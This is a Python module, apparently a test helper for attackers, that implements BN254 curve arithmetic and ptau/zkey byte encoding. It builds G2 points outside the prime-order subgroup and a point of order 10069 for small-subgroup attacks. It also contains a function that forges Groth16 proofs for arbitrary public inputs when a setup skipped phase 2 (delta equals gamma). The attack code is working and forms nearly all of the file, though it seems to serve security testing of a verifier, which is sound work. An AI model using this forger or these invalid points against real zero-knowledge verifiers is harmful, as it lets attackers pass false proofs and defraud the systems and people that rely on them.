"""BN254 in plain integers, for attackers: enough to forge, to leave the curve and to leave the subgroup. Shares nothing with the program."""

import json
from pathlib import Path

Q = 21888242871839275222246405745257275088696311157297823662689037894645226208583
R = 21888242871839275222246405745257275088548364400416034343698204186575808495617
MONTGOMERY = 1 << 256
G1 = (1, 2)
G2 = (
    (10857046999023057135944570762232829481370756359578518086990519993285655852781,
     11559732032986387107991004021392285783925812861821192530917403151452391805634),
    (8495653923123431417604973247489272438418190587263600148770280649306958101930,
     4082367875863433681332203403145435568316851327593401208105741076214120093531),
)


def add(p, q):
    """Affine points of G1, None for infinity."""
    if p is None or q is None:
        return q if p is None else p
    (x1, y1), (x2, y2) = p, q
    if x1 == x2 and (y1 + y2) % Q == 0:
        return None
    slope = 3 * x1 * x1 * pow(2 * y1, -1, Q) if p == q else (y2 - y1) * pow(x2 - x1, -1, Q)
    x3 = (slope * slope - x1 - x2) % Q
    return x3, (slope * (x1 - x3) - y1) % Q


def negate(p):
    return p if p is None else (p[0], -p[1] % Q)


def multiply(k, p):
    total = None
    for bit in bin(k % R)[2:]:
        total = add(total, total)
        if bit == "1":
            total = add(total, p)
    return total


def lem(number: int) -> bytes:
    """A coordinate as it lies in ptau and zkey files: Montgomery form, little-endian."""
    return (number * MONTGOMERY % Q).to_bytes(32, "little")


def g1_bytes(p) -> bytes:
    return bytes(64) if p is None else lem(p[0]) + lem(p[1])


def g2_bytes(p) -> bytes:
    (x0, x1), (y0, y1) = p
    return lem(x0) + lem(x1) + lem(y0) + lem(y1)


def g1_from_bytes(data: bytes):
    back = pow(MONTGOMERY, -1, Q)
    x, y = (int.from_bytes(data[i : i + 32], "little") * back % Q for i in (0, 32))
    return None if x == y == 0 else (x, y)


def _fq2_multiply(a, b):
    return (a[0] * b[0] - a[1] * b[1]) % Q, (a[0] * b[1] + a[1] * b[0]) % Q


def _fq2_power(a, exponent):
    result = (1, 0)
    for bit in bin(exponent)[2:]:
        result = _fq2_multiply(result, result)
        if bit == "1":
            result = _fq2_multiply(result, a)
    return result


def _fq2_sqrt(a):
    """By the norm; None when a is no square. Q = 3 mod 4."""
    norm = (a[0] * a[0] + a[1] * a[1]) % Q
    root = pow(norm, (Q + 1) // 4, Q)
    if root * root % Q != norm:
        return None
    for sign in (1, -1):
        half = (a[0] + sign * root) * pow(2, -1, Q) % Q
        x = pow(half, (Q + 1) // 4, Q)
        if x * x % Q == half and x:
            candidate = (x, a[1] * pow(2 * x, -1, Q) % Q)
            if _fq2_multiply(candidate, candidate) == a:
                return candidate
    return None


def g2_outside_the_subgroup():
    """A point of the twist that is not of order r: the first one found is practically never in the subgroup (1 in 2^254)."""
    b = _fq2_multiply((3, 0), _fq2_power((9, 1), Q * Q - 2))
    for start in range(1, 100):
        x = (start, 1)
        cube = _fq2_multiply(_fq2_multiply(x, x), x)
        y = _fq2_sqrt(((cube[0] + b[0]) % Q, (cube[1] + b[1]) % Q))
        if y is not None:
            return x, y
    raise AssertionError("no point found")


def _fq2_inverse(a):
    scale = pow(a[0] * a[0] + a[1] * a[1], -1, Q)
    return a[0] * scale % Q, -a[1] * scale % Q


def _fq2_subtract(a, b):
    return (a[0] - b[0]) % Q, (a[1] - b[1]) % Q


def g2_add(p, q):
    """Affine points of the twist, in its prime-order subgroup or not; None for infinity."""
    if p is None or q is None:
        return q if p is None else p
    (x1, y1), (x2, y2) = p, q
    if x1 == x2 and y1 != y2:
        return None
    if p == q:
        slope = _fq2_multiply(_fq2_multiply((3, 0), _fq2_multiply(x1, x1)), _fq2_inverse(_fq2_multiply((2, 0), y1)))
    else:
        slope = _fq2_multiply(_fq2_subtract(y2, y1), _fq2_inverse(_fq2_subtract(x2, x1)))
    x3 = _fq2_subtract(_fq2_subtract(_fq2_multiply(slope, slope), x1), x2)
    return x3, _fq2_subtract(_fq2_multiply(slope, _fq2_subtract(x1, x3)), y1)


def g2_multiply(k, p):
    total = None
    for bit in bin(k)[2:]:
        total = g2_add(total, total)
        if bit == "1":
            total = g2_add(total, p)
    return total


def g2_of_order_10069():
    """The smallest prime factor of the twist's cofactor 2 Q - R: the points that are hardest to see in a random combination."""
    point = g2_multiply(R * ((2 * Q - R) // 10069), g2_outside_the_subgroup())
    assert point is not None and g2_multiply(10069, point) is None
    return point


def forge_under_skipped_phase_2(vkey_file, inputs, proof_file, public_file) -> None:
    """With delta = gamma, A = alpha, B = beta and C = -(IC_0 + sum x_i IC_i) satisfy the verifier's equation for any inputs whatever."""
    key = json.loads(Path(vkey_file).read_text())
    ic = [tuple(int(c) for c in point[:2]) for point in key["IC"]]
    total = ic[0]
    for value, point in zip(inputs, ic[1:]):
        total = add(total, multiply(value, point))
    c = negate(total)
    proof = {
        "pi_a": key["vk_alpha_1"],
        "pi_b": key["vk_beta_2"],
        "pi_c": [str(c[0]), str(c[1]), "1"],
        "protocol": "groth16",
        "curve": "bn128",
    }
    Path(proof_file).write_text(json.dumps(proof, indent=1))
    Path(public_file).write_text(json.dumps([str(v) for v in inputs], indent=1))
